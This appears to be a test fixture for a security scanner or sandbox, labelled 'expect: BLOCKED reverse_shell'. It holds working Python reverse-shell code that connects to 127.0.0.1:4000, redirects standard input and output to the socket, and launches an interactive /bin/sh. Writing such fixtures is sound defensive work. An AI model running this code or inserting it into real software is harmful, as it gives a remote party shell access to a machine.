# expect: BLOCKED reverse_shell
import socket, os
s = socket.socket()
s.connect(("127.0.0.1", 4000))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
os.execl("/bin/sh", "sh", "-i")
